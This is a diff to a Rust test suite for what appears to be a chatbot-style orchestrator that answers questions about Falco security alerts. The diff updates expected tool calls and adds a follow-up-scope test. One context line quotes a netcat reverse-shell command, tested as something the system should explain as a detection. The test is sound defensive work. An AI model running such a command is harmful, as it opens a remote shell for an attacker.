@@ -98,7 +98,11 @@ async fn a_category_compared_carries_over_to_the_next_questions() {
     let mut session = None;
 
     let compared = ask(&orchestrator, &mut session, "Compare reconnaissance this week with last week.").await;
-    assert_eq!(tools(&compared), vec!["compare_periods"]);
+    assert_eq!(
+        tools(&compared),
+        vec!["compare_periods", "event_stats"],
+        "the category, then every alert of the scope in the same periods"
+    );
     let category_rules: Vec<String> = compared.steps[0].output["category_rules"]
         .as_array()
         .expect("the category's rules")
@@ -199,4 +203,18 @@ async fn a_pasted_command_line_is_searched_whole_and_explained() {
     let explain = ask(&orchestrator, &mut session, "why did falco flag nc -e /bin/sh 203.0.113.9 9001 there?").await;
     assert_eq!(tools(&explain), vec!["explain_event"], "{}", explain.answer);
     assert_eq!(explain.steps[0].output["rule"], "Netcat Remote Code Execution in Container");
+}
+
+#[tokio::test]
+async fn a_bare_and_with_another_place_repeats_the_last_question_there() {
+    let sessions = tempfile::tempdir().expect("tempdir");
+    let orchestrator = demo_orchestrator(sessions.path()).await;
+    let mut session = None;
+
+    let first = ask(&orchestrator, &mut session, "how many workloads got hit in prod-web-eks").await;
+    assert_eq!(tools(&first), vec!["impacted_workloads"]);
+
+    let other = ask(&orchestrator, &mut session, "and staging-ocp?").await;
+    assert_eq!(tools(&other), vec!["impacted_workloads"], "{}", other.answer);
+    assert_eq!(scope(&other, 0), "k8s.cluster.name=staging-ocp");
 }
